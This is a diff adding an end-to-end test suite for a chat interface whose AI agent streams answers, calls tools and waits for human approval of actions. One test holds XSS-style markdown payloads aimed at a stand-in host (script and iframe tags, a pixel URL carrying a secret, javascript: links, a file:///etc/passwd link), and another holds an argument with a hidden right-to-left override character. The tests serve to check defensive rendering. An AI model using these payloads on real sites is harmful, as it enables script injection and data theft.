@@ -1,0 +1,330 @@
+import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { contextFor } from "../../src/context.ts";
+import { calls, type Move, says, startModel } from "../peers/model.ts";
+import { PASSWORD, startApp } from "../support/app.ts";
+import { makeThread, THREADS } from "../support/chat.ts";
+import { openAs, startLine } from "../support/hands.ts";
+import { loadTable } from "../support/lake.ts";
+import { startReceiver } from "../support/receiver.ts";
+import { MARKUP, openSeen, type Seen } from "../support/seen.ts";
+import { makeAction, until } from "../support/work.ts";
+
+let model: Awaited<ReturnType<typeof startModel>>;
+let receiver: ReturnType<typeof startReceiver>;
+let seen: Seen;
+beforeAll(async () => {
+  model = await startModel([]);
+  receiver = startReceiver();
+  seen = await openSeen({ env: model.env });
+});
+afterAll(async () => {
+  await seen[Symbol.asyncDispose]();
+  await model[Symbol.asyncDispose]();
+  await receiver[Symbol.asyncDispose]();
+});
+
+/** A thread with a new agent, opened in the page. */
+async function openThread(tools: string[] = []) {
+  const { thread, at, spec } = await makeThread({ app: seen.weir }, tools);
+  await seen.go(`/chat/${thread.id}`);
+  await seen.heading("New chat");
+  return { id: thread.id, at, spec };
+}
+
+async function askIt(text: string) {
+  await seen.page.getByLabel("Ask", { exact: true }).fill(text);
+  await seen.page.keyboard.press("Enter");
+}
+
+const messagesOf = async (at: string) => (await seen.weir.owner("GET", `${at}/messages`)).body.items;
+const answers = () => seen.page.getByRole("article", { name: "Answer" });
+
+/** An answer that stops after its first words until `go` is called. */
+function stalls(first: string, rest: string) {
+  const gate = Promise.withResolvers<void>();
+  const moves: Move[] = [{ text: first }, { hold: gate.promise }, { text: rest }];
+  return { script: { moves, usage: { input: 1, output: 1 } }, go: gate.resolve };
+}
+
+describe("an answer", () => {
+  test("grows as it comes, with the calls of tools and their rows in their place, and is copied", async () => {
+    const { page, weir, troubles } = seen;
+    const ctx = contextFor(weir.app, {
+      organizationId: weir.ids.organizationId,
+      role: "owner",
+      actor: { type: "user", id: weir.ids.userId },
+      correlationId: "made-for-a-test",
+    });
+    const select = "SELECT * FROM (VALUES ('Bern', 12), ('Zürich', 30)) t(city, total)";
+    await loadTable(ctx, { layer: "raw", dataset: "shop", table: "orders", select });
+    const last = stalls("Most are from **Zür", "ich**.\n\n| city | total |\n|---|--:|\n| Zürich | 30 |\n");
+    model.play([calls("query", { sql: "SELECT city, total FROM raw.shop__orders" }), last.script]);
+    const { at } = await openThread(["query"]);
+    await askIt("Where are the orders from?");
+    await page.getByRole("region", { name: "Rows of the answer" }).getByText("Bern").waitFor();
+    await page.getByText("Most are from **Zür").waitFor();
+    await page.getByRole("button", { name: "Stop" }).waitFor();
+    await page.getByRole("button", { name: "Chart" }).click();
+    await page.getByRole("img", { name: /Chart of total/ }).waitFor();
+    expect(await troubles()).toEqual([]);
+    last.go();
+    await page.getByRole("button", { name: "Answer again" }).waitFor();
+    expect(await answers().locator("strong").textContent()).toBe("Zürich");
+    await page.getByRole("region", { name: "Table" }).getByText("30").waitFor();
+    await seen.heading("Where are the orders from?");
+    await page.getByRole("button", { name: "Copy the answer" }).waitFor();
+    expect((await messagesOf(at)).map(({ role }: { role: string }) => role)).toEqual(["user", "assistant"]);
+    expect(await troubles()).toEqual([]);
+  });
+
+  test("of a hostile model is text: nothing is fetched, nothing runs, links lead to the web and say where", async () => {
+    const { page, troubles } = seen;
+    const hostile = [
+      `${MARKUP} <script>window.wasRun=1</script> <iframe src="https://evil.example/frame"></iframe>`,
+      "![pixel](https://evil.example/pixel.png?secret=1) ![data](data:image/png;base64,AAAA)",
+      "[run](javascript:window.wasRun=1) [data](data:text/html,x) [coded](&#106;avascript:window.wasRun=1) [file](file:///etc/passwd)",
+      "[your bank](https://evil.example/login) [https://bank.example/evil.example](https://evil.example/x) <https://evil.example/auto> [relative](/api/v1/auth/logout)",
+      "[ref][a]\n\n[a]: https://evil.example/ref\n\n> > > deep\n\n<style>body{display:none}</style>",
+      ">".repeat(30_000),
+    ];
+    for (const text of hostile.slice(0, 5)) {
+      model.play([says(text)]);
+      await openThread();
+      await askIt("Go on");
+      await page.getByRole("button", { name: "Answer again" }).waitFor();
+      const drawn = await page.evaluate(() => ({
+        wasRun: "wasRun" in window,
+        foreign: [...document.querySelectorAll("main :is(img, iframe, script, style, object, embed, video)")]
+          .length,
+        links: [...document.querySelectorAll<HTMLAnchorElement>("article a")].map((link) => ({
+          href: link.href,
+          text: link.textContent ?? "",
+          rel: link.rel,
+        })),
+      }));
+      expect({ wasRun: drawn.wasRun, foreign: drawn.foreign }).toEqual({ wasRun: false, foreign: 0 });
+      for (const { href, text: words, rel } of drawn.links) {
+        expect(href).toMatch(/^https:\/\/evil\.example\//);
+        expect(words).toMatch(/\(evil\.example\)$|^https:\/\/evil\.example\//);
+        expect(rel).toContain("noopener");
+      }
+    }
+    model.play([says(hostile[5] ?? "")]);
+    await openThread();
+    await askIt("Go on");
+    await page.getByRole("button", { name: "Answer again" }).waitFor();
+    expect(await troubles()).toEqual([]);
+  }, 60_000);
+
+  test("goes on after a reload in its midst, and is there once", async () => {
+    const { page, troubles } = seen;
+    const slow = stalls("First half", " and second half.");
+    model.play([slow.script]);
+    const { at } = await openThread();
+    await askIt("Tell me all");
+    await page.getByText("First half").waitFor();
+    await page.reload();
+    await page.getByText("First half").waitFor();
+    await page.getByRole("button", { name: "Stop" }).waitFor();
+    slow.go();
+    await page.getByText("First half and second half.").waitFor();
+    await page.getByRole("button", { name: "Answer again" }).waitFor();
+    expect(await answers().count()).toBe(1);
+    expect((await messagesOf(at))[1].content).toBe("First half and second half.");
+    expect(await troubles()).toEqual([]);
+  });
+
+  test("of a model that stalls is stopped, and keeps what was seen", async () => {
+    const { page } = seen;
+    const stuck = stalls("As far as", " never");
+    model.play([stuck.script]);
+    const { at } = await openThread();
+    await askIt("How far?");
+    await page.getByText("As far as").waitFor();
+    await page.getByRole("button", { name: "Stop" }).click();
+    await page.getByText("Stopped", { exact: true }).waitFor();
+    await page.getByRole("button", { name: "Ask", exact: true }).waitFor();
+    await model.heard[0]?.gone;
+    expect((await messagesOf(at))[1]).toMatchObject({ content: "As far as", cancelled: true });
+    stuck.go();
+  });
+
+  test("that failed says why, also after a reload, and can be given again", async () => {
+    const { page } = seen;
+    model.play([{ moves: [{ text: "Well" }, { error: { type: "overloaded", message: "Too much" } }] }]);
+    const { at } = await openThread();
+    await askIt("Are you there?");
+    const alert = page.locator("main").getByRole("alert");
+    await alert.waitFor();
+    const why = await alert.locator("p").first().textContent();
+    await page.reload();
+    await alert.getByText(why ?? "").waitFor();
+    model.play([says("Now I am.")]);
+    await alert.getByRole("button", { name: "Try again" }).click();
+    await page.getByText("Now I am.").waitFor();
+    await page.getByRole("button", { name: "Answer again" }).click();
+    await until(seen.weir.owner, at, ({ lastTurnStatus }) => lastTurnStatus === "failed");
+    expect((await messagesOf(at)).length).toBe(2);
+  });
+});
+
+describe("a call that needs a yes", () => {
+  test("is shown with its exact arguments, made once it is approved, and not made once it is rejected", async () => {
+    const { page, weir, troubles } = seen;
+    const definition = { url: `${receiver.url}/refund/{{input.order}}`, method: "POST" };
+    await makeAction(weir.owner, { slug: "refund", kind: "http_request", definition });
+    model.play([calls("action_refund", { order: "A-17" }), says("Refunded."), says("Unused")]);
+    const { at } = await openThread(["action:refund"]);
+    await askIt("Refund A-17");
+    const asked = page.getByRole("region", { name: "Arguments to approve" });
+    await asked.getByText('"order": "A-17"').waitFor();
+    expect(receiver.got).toEqual([]);
+    expect(await troubles()).toEqual([]);
+    await page.reload();
+    await page.getByRole("button", { name: "Approve" }).click();
+    await page.getByText("Refunded.").waitFor();
+    expect(receiver.got.map(({ path }) => path)).toEqual(["/refund/A-17"]);
+
+    await page.getByRole("button", { name: "Ask", exact: true }).waitFor();
+    model.play([calls("action_refund", { order: "B-18" }), says("Then not.")]);
+    await askIt("And B-18");
+    await page.getByLabel("Reason, if you reject it").fill("Too late");
+    await page.getByRole("button", { name: "Reject" }).click();
+    await page.getByText("Then not.").waitFor();
+    await page.getByText("Too late").waitFor();
+    await page.getByText("Rejected", { exact: true }).first().waitFor();
+    expect(receiver.got.length).toBe(1);
+
+    await page.getByRole("button", { name: "Ask", exact: true }).waitFor();
+    model.play([calls("action_refund", { order: "C-19\u202e71-A" }), says("Never.")]);
+    await askIt("And C-19");
+    await asked.getByText('"C-19\\u202e71-A"').waitFor(); // what turns the writing round is seen
+    await page.getByRole("button", { name: "Stop" }).click();
+    await until(weir.owner, at, ({ lastTurnStatus }) => lastTurnStatus === "cancelled");
+    await page.getByRole("button", { name: "Ask", exact: true }).waitFor();
+    expect(await page.getByRole("button", { name: "Approve" }).count()).toBe(0);
+    expect(receiver.got.length).toBe(1);
+    expect(await troubles()).toEqual([]);
+  }, 60_000);
+});
+
+test("a second question while an answer comes from elsewhere is refused, kept, and that answer shown", async () => {
+  const { page, weir } = seen;
+  const slow = stalls("Asked elsewhere", ", answered here.");
+  model.play([slow.script]);
+  await page.route("**/api/v1/events/stream", (route) => route.abort());
+  const { at } = await openThread();
+  const other = fetch(`${weir.origin}${at}/turns/stream`, {
+    method: "POST",
+    headers: { authorization: `Bearer ${weir.token}`, "content-type": "application/json" },
+    body: JSON.stringify({ content: "From elsewhere" }),
+  });
+  await until(weir.owner, at, ({ lastTurnStatus }) => lastTurnStatus === "streaming");
+  await askIt("From here");
+  await page.getByText("From elsewhere").first().waitFor();
+  await page.getByText("Asked elsewhere").waitFor();
+  expect(await page.getByLabel("Ask", { exact: true }).inputValue()).toBe("From here");
+  slow.go();
+  await page.getByText("One turn at a time").waitFor();
+  await page.getByText("Asked elsewhere, answered here.").waitFor();
+  await (await other).text();
+  await page.unroute("**/api/v1/events/stream");
+});
+
+test("a line that breaks in mid-answer is mended, and nothing is missing or there twice", async () => {
+  await using own = await startModel([]);
+  await using weir = await startApp({ env: own.env });
+  await using line = await startLine(Number(new URL(weir.origin).port));
+  await using ada = await openAs(line.origin);
+  const { page } = ada;
+  const slow = stalls("Before the cut", " and after it.");
+  own.play([slow.script]);
+  const { thread } = await makeThread({ app: weir });
+  await page.goto(`${line.origin}/chat/${thread.id}`);
+  await page.getByLabel("Ask", { exact: true }).fill("Go");
+  await page.keyboard.press("Enter");
+  await page.getByText("Before the cut").waitFor();
+  line.cut();
+  await page.getByText("The line to Weir broke").waitFor();
+  slow.go();
+  line.mend();
+  await page.getByText("Before the cut and after it.").waitFor();
+  await page.getByRole("button", { name: "Answer again" }).waitFor();
+  expect(await page.getByRole("article", { name: "Answer" }).count()).toBe(1);
+}, 60_000);
+
+test("without a model the page names what is to be set, and keeps the question", async () => {
+  await using bare = await openSeen();
+  const { page, go, weir, troubles } = bare;
+  await go("/chat");
+  await page.getByText("There is no agent to chat with yet").waitFor();
+  await page.getByText("WEIR_LLM_BASE_URL").waitFor();
+  const { thread } = await makeThread({ app: weir });
+  await go(`/chat/${thread.id}`);
+  await page.getByLabel("Ask", { exact: true }).fill("Anybody there?");
+  await page.getByRole("button", { name: "Ask", exact: true }).click();
+  await page.getByText(/No language model is configured: set WEIR_LLM_BASE_URL/).waitFor();
+  expect(await page.getByLabel("Ask", { exact: true }).inputValue()).toBe("Anybody there?");
+  expect((await weir.owner("GET", `${THREADS}/${thread.id}/messages`)).body.items).toEqual([]);
+  expect(await troubles()).toEqual([]);
+}, 60_000);
+
+test("a session that ends takes no question away, and no API that is half described", async () => {
+  const { page, go, weir } = seen;
+  await openThread();
+  const forms = [
+    ["Ask", "Ask"],
+    ["Content", "Read it"],
+  ] as const;
+  for (const [field, send] of forms) {
+    if (field === "Content") await go("/catalog/new?from=text");
+    const box = page.getByRole("textbox", { name: field, exact: true });
+    await box.fill("Half of what I wanted");
+    await weir.owner("DELETE", "/api/v1/sessions?exclude_current=false");
+    await page.getByRole("button", { name: send, exact: true }).click();
+    const dialog = page.getByRole("dialog", { name: "Your session has ended" });
+    await dialog.getByLabel("Password").fill(PASSWORD);
+    await dialog.getByRole("button", { name: "Sign in" }).click();
+    await dialog.waitFor({ state: "detached" });
+    expect(await box.inputValue()).toBe("Half of what I wanted");
+  }
+});
+
+test("chats are begun with one of the agents, renamed, deleted one by one and together", async () => {
+  const { page, go, heading, weir, troubles } = seen;
+  await weir.owner("POST", `${THREADS}/bulk-delete`, { all: true });
+  const { spec, id } = await openThread();
+  await page.getByRole("button", { name: "Rename the chat" }).click();
+  const dialog = page.getByRole("dialog");
+  await dialog.getByLabel("Title").fill(MARKUP);
+  await dialog.getByRole("button", { name: "Rename" }).click();
+  await heading(MARKUP);
+  await go("/chat");
+  await page.getByRole("button", { name: "New chat" }).click();
+  await page.getByRole("menuitem", { name: spec.name }).click();
+  await heading("New chat");
+  await page.getByRole("button", { name: "Delete the chat" }).click();
+  await dialog.getByRole("button", { name: "Delete" }).click();
+  await heading("Chat");
+  await page.getByRole("link", { name: MARKUP }).waitFor();
+  await makeThread({ app: weir });
+  await page.reload();
+  expect(await troubles()).toEqual([]);
+  await page.getByLabel("Pick New chat").check();
+  await page.getByLabel(`Pick ${MARKUP}`).check();
+  await page.getByRole("button", { name: "Delete 2 picked" }).click();
+  await dialog.getByRole("button", { name: "Delete" }).click();
+  await page.getByText("No chats yet").waitFor();
+  expect((await weir.owner("GET", `${THREADS}/${id}`)).status).toBe(404);
+  expect(await troubles()).toEqual([]);
+});
+
+test("chats are as readable in the dark and on a phone", async () => {
+  const { page, alsoDarkAndNarrow } = seen;
+  const text = `# Title\n\n${"W".repeat(300)}\n\n| ${"a | ".repeat(20)}\n|${"---|".repeat(20)}\n| ${"1 | ".repeat(20)}\n\n\`\`\`\n${"x".repeat(400)}\n\`\`\``;
+  model.play([calls("unknown", { long: "W".repeat(500) }), says(text)]);
+  const { id } = await openThread(["query"]);
+  await askIt("W".repeat(200));
+  await page.getByRole("button", { name: "Answer again" }).waitFor();
+  expect(await alsoDarkAndNarrow("/chat", `/chat/${id}`)).toEqual([]);
+});
